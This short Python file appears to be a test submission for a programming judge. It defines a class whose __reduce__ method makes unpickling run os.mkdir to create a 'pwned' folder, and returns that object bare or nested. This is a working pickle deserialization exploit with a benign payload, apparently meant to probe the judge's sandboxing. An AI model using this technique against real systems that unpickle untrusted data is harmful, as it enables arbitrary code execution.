"""Returns an object whose unpickling makes a folder, for a judge that unpickles what it is given."""

import os


class Bomb:
    def __reduce__(self):
        return os.mkdir, ("@ROOT@/pwned",)


def solve(x):
    return [Bomb(), [Bomb()], {"a": Bomb()}][x - 1]
